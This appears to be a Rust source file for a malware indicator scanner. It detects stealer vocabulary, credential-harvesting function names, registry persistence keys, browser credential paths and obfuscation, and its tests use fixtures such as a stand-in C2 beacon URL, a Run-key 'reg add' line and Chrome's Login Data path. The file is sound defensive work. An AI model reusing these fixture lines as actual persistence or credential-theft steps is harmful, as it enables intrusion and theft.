//! Byte-level indicator scanning for staged artifacts.
//!
//! The scanner works on a lossy UTF-8 projection of the artifact bytes, so
//! indicators embedded in binary payloads are found without any parsing.
//! Detections that would otherwise repeat per occurrence (interpreter
//! keywords, stealer vocabulary, registry keys, obfuscation hints) are
//! aggregated into a single detection per artifact; endpoint and address
//! candidates are collected separately so the pipeline can deduplicate them
//! across the whole run.
//!
//! # Examples
//!
//! ```rust,no_run
//! use pyscope::{IocScanner, SampleKind};
//!
//! let scan = IocScanner::scan(b"requests.post('https://c2.example/beacon')", SampleKind::SourceText);
//! assert_eq!(scan.urls, vec!["https://c2.example/beacon".to_string()]);
//! ```

pub mod patterns;

use crate::format::SampleKind;
use crate::ioc::patterns::{push_unique, PatternSet};
use crate::report::Detection;

/// Fraction of bytes above `0x7F` at which text-like artifacts are treated
/// as likely obfuscated.
const HIGH_BIT_DENSITY_THRESHOLD: f64 = 0.30;

/// Everything one scan pass found in a single artifact.
///
/// `detections` carry per-artifact findings; `urls`, `ips` and `webhooks`
/// are raw candidates the pipeline merges and deduplicates run-wide.
#[derive(Debug, Clone, Default)]
pub struct ArtifactScan {
    /// Findings local to this artifact, in discovery order.
    pub detections: Vec<Detection>,
    /// Plain URLs, webhook endpoints excluded.
    pub urls: Vec<String>,
    /// Dotted-quad addresses.
    pub ips: Vec<String>,
    /// Webhook endpoints, in appearance order.
    pub webhooks: Vec<String>,
}

/// Stateless indicator scanner over raw artifact bytes.
pub struct IocScanner;

impl IocScanner {
    /// Scan `data` for indicators, with `kind` gating the checks that only
    /// make sense for a particular artifact class.
    ///
    /// Interpreter keyword and stealer vocabulary checks apply to
    /// [`SampleKind::SourceText`] only; the high-bit density obfuscation
    /// heuristic is skipped for kinds that are binary by nature.
    #[must_use]
    pub fn scan(data: &[u8], kind: SampleKind) -> ArtifactScan {
        let patterns = PatternSet::global();
        let text = String::from_utf8_lossy(data);

        let webhooks = patterns.find_webhooks(&text);
        let mut urls = Vec::new();
        collect_urls(patterns, &text, &mut urls);
        let mut ips = Vec::new();
        for matched in patterns.ipv4.find_iter(&text) {
            push_unique(&mut ips, matched.as_str().to_string());
        }

        let mut detections = Vec::new();
        scan_constants(&text, &mut detections);
        scan_functions(&text, &mut detections);
        if kind == SampleKind::SourceText {
            scan_keywords(&text, &mut detections);
            scan_stealer_vocabulary(&text, &mut detections);
        }
        scan_registry_keys(&text, &mut detections);
        scan_credential_paths(&text, &mut detections);
        scan_obfuscation(data, &text, kind, &mut detections);

        ArtifactScan {
            detections,
            urls,
            ips,
            webhooks,
        }
    }
}

fn collect_urls(patterns: &PatternSet, text: &str, urls: &mut Vec<String>) {
    for matched in patterns.url.find_iter(text) {
        let url = matched.as_str();
        if url.contains(patterns::WEBHOOK_PATH_MARKER) {
            continue;
        }
        push_unique(urls, url.to_string());
    }
}

fn scan_constants(text: &str, detections: &mut Vec<Detection>) {
    for constant in patterns::SUSPICIOUS_CONSTANTS {
        if text.contains(constant) {
            detections.push(Detection::warning(
                "Suspicious Constant Found",
                format!("Constant '{constant}' appears in the artifact"),
            ));
        }
    }
}

fn scan_functions(text: &str, detections: &mut Vec<Detection>) {
    for function in patterns::SUSPICIOUS_FUNCTIONS {
        if text.contains(function) {
            detections.push(Detection::critical(
                "Suspicious Function Found",
                format!("Function '{function}' is associated with credential harvesting"),
            ));
        }
    }
}

fn scan_keywords(text: &str, detections: &mut Vec<Detection>) {
    let found: Vec<&str> = patterns::SUSPICIOUS_KEYWORDS
        .iter()
        .copied()
        .filter(|keyword| text.contains(keyword))
        .collect();

    if !found.is_empty() {
        detections.push(Detection::critical(
            "Suspicious Python Code Found",
            format!("Dynamic execution keywords present: {}", found.join(", ")),
        ));
    }
}

fn scan_stealer_vocabulary(text: &str, detections: &mut Vec<Detection>) {
    let found: Vec<&str> = patterns::STEALER_MARKERS
        .iter()
        .copied()
        .filter(|marker| text.contains(marker))
        .collect();

    if !found.is_empty() {
        detections.push(Detection::critical(
            "Possible Stealer Behavior",
            format!("Stealer vocabulary present: {}", found.join(", ")),
        ));
    }
}

/// One detection per artifact; malicious keys escalate it to critical.
fn scan_registry_keys(text: &str, detections: &mut Vec<Detection>) {
    let mut found: Vec<&str> = Vec::new();
    let mut malicious = false;

    for key in patterns::MALICIOUS_REGISTRY_KEYS {
        if text.contains(key) {
            found.push(key);
            malicious = true;
        }
    }
    for key in patterns::SUSPICIOUS_REGISTRY_KEYS {
        if text.contains(key) {
            found.push(key);
        }
    }

    if found.is_empty() {
        return;
    }

    let description = format!("Registry keys referenced: {}", found.join(", "));
    detections.push(if malicious {
        Detection::critical("Registry Operations Detected", description)
    } else {
        Detection::warning("Registry Operations Detected", description)
    });
}

fn scan_credential_paths(text: &str, detections: &mut Vec<Detection>) {
    for (product, path) in patterns::BROWSER_PATHS {
        if text.contains(path) {
            detections.push(Detection::critical(
                "Browser Path Found",
                format!("{product} credential store path referenced"),
            ));
        }
    }
    for directory in patterns::SUSPICIOUS_DIRECTORIES {
        if text.contains(directory) {
            detections.push(Detection::warning(
                "Suspicious Directory Reference",
                format!("Profile directory '{directory}' referenced"),
            ));
        }
    }
}

/// At most one obfuscation detection per artifact, naming every indicator
/// that fired.
fn scan_obfuscation(data: &[u8], text: &str, kind: SampleKind, detections: &mut Vec<Detection>) {
    let patterns = PatternSet::global();
    let mut indicators: Vec<String> = Vec::new();

    for marker in patterns::OBFUSCATION_CALL_MARKERS {
        if text.contains(marker) {
            indicators.push(format!("call to {marker}..)"));
        }
    }
    if patterns.long_alnum_run.is_match(text) {
        indicators.push("long alphanumeric run".to_string());
    }
    if patterns.hex_escape.is_match(text) {
        indicators.push("hex escape sequences".to_string());
    }
    // Executables and compiled bytecode are binary by nature; density says
    // nothing there.
    if !matches!(
        kind,
        SampleKind::Executable | SampleKind::CompiledBytecode
    ) && high_bit_density(data) >= HIGH_BIT_DENSITY_THRESHOLD
    {
        indicators.push("high non-ASCII byte density".to_string());
    }

    if !indicators.is_empty() {
        detections.push(Detection::info(
            "Possible Obfuscation Detected",
            format!("Indicators: {}", indicators.join(", ")),
        ));
    }
}

fn high_bit_density(data: &[u8]) -> f64 {
    if data.is_empty() {
        return 0.0;
    }
    let high = data.iter().filter(|&&byte| byte >= 0x80).count();
    high as f64 / data.len() as f64
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test::TEST_WEBHOOK;

    fn titles(scan: &ArtifactScan) -> Vec<&str> {
        scan.detections
            .iter()
            .map(|detection| detection.title.as_str())
            .collect()
    }

    #[test]
    fn webhook_collected_and_kept_out_of_urls() {
        let data = format!("send = '{TEST_WEBHOOK}' backup = 'https://c2.example/x'");
        let scan = IocScanner::scan(data.as_bytes(), SampleKind::SourceText);

        assert_eq!(scan.webhooks, vec![TEST_WEBHOOK.to_string()]);
        assert_eq!(scan.urls, vec!["https://c2.example/x".to_string()]);
    }

    #[test]
    fn webhook_literal_trips_constant_table() {
        let scan = IocScanner::scan(TEST_WEBHOOK.as_bytes(), SampleKind::Unknown);

        // "webhook" and "discord.com/api/webhooks" are both substrings of
        // the endpoint itself.
        let constants: Vec<_> = titles(&scan)
            .into_iter()
            .filter(|title| *title == "Suspicious Constant Found")
            .collect();
        assert_eq!(constants.len(), 2);
    }

    #[test]
    fn ips_deduplicated() {
        let scan = IocScanner::scan(
            b"connect 10.0.0.1 then 10.0.0.1 then 10.0.0.2",
            SampleKind::Unknown,
        );
        assert_eq!(
            scan.ips,
            vec!["10.0.0.1".to_string(), "10.0.0.2".to_string()]
        );
    }

    #[test]
    fn harvest_function_is_critical() {
        let scan = IocScanner::scan(b"call grabTokens() next", SampleKind::Unknown);

        let hits: Vec<_> = scan
            .detections
            .iter()
            .filter(|detection| detection.title == "Suspicious Function Found")
            .collect();
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].severity, crate::report::Severity::Critical);
        assert!(hits[0].description.contains("grabTokens"));
    }

    #[test]
    fn keywords_aggregate_into_one_detection() {
        let data = b"eval(input()) ; subprocess.run(['x']) ; os.system('y')";
        let scan = IocScanner::scan(data, SampleKind::SourceText);

        let hits: Vec<_> = scan
            .detections
            .iter()
            .filter(|detection| detection.title == "Suspicious Python Code Found")
            .collect();
        assert_eq!(hits.len(), 1);
        assert!(hits[0].description.contains("eval"));
        assert!(hits[0].description.contains("subprocess"));
    }

    #[test]
    fn keywords_require_source_text() {
        let data = b"eval(input()) from a random blob";
        let scan = IocScanner::scan(data, SampleKind::Unknown);

        assert!(!titles(&scan).contains(&"Suspicious Python Code Found"));
    }

    #[test]
    fn stealer_vocabulary_single_detection() {
        let scan = IocScanner::scan(b"token stealer with password list", SampleKind::SourceText);

        let hits: Vec<_> = titles(&scan)
            .into_iter()
            .filter(|title| *title == "Possible Stealer Behavior")
            .collect();
        assert_eq!(hits.len(), 1);
    }

    #[test]
    fn registry_severity_escalates_on_malicious_keys() {
        let suspicious = br"reg add HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run /v x";
        let scan = IocScanner::scan(suspicious, SampleKind::Unknown);
        let hit = scan
            .detections
            .iter()
            .find(|detection| detection.title == "Registry Operations Detected")
            .unwrap();
        assert_eq!(hit.severity, crate::report::Severity::Warning);

        let malicious = br"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Policies\System\DisableTaskMgr";
        let scan = IocScanner::scan(malicious, SampleKind::Unknown);
        let hit = scan
            .detections
            .iter()
            .find(|detection| detection.title == "Registry Operations Detected")
            .unwrap();
        assert_eq!(hit.severity, crate::report::Severity::Critical);
    }

    #[test]
    fn browser_paths_and_directories_both_fire() {
        let data = br"open AppData\Local\Google\Chrome\User Data\Default\Login Data";
        let scan = IocScanner::scan(data, SampleKind::Unknown);

        let found = titles(&scan);
        assert!(found.contains(&"Browser Path Found"));
        assert!(found.contains(&"Suspicious Directory Reference"));
    }

    #[test]
    fn obfuscation_indicators_merge_into_one_info() {
        let data = format!("eval(base64.b64decode('{}'))", "Q".repeat(40));
        let scan = IocScanner::scan(data.as_bytes(), SampleKind::SourceText);

        let hits: Vec<_> = scan
            .detections
            .iter()
            .filter(|detection| detection.title == "Possible Obfuscation Detected")
            .collect();
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].severity, crate::report::Severity::Info);
        assert!(hits[0].description.contains("eval("));
        assert!(hits[0].description.contains("long alphanumeric run"));
    }

    #[test]
    fn density_heuristic_skips_binary_kinds() {
        let data: Vec<u8> = vec![0xC3; 64];

        let scan = IocScanner::scan(&data, SampleKind::Unknown);
        assert!(titles(&scan).contains(&"Possible Obfuscation Detected"));

        let scan = IocScanner::scan(&data, SampleKind::CompiledBytecode);
        assert!(!titles(&scan).contains(&"Possible Obfuscation Detected"));
    }

    #[test]
    fn empty_artifact_yields_empty_scan() {
        let scan = IocScanner::scan(&[], SampleKind::Unknown);

        assert!(scan.detections.is_empty());
        assert!(scan.urls.is_empty());
        assert!(scan.ips.is_empty());
        assert!(scan.webhooks.is_empty());
    }
}
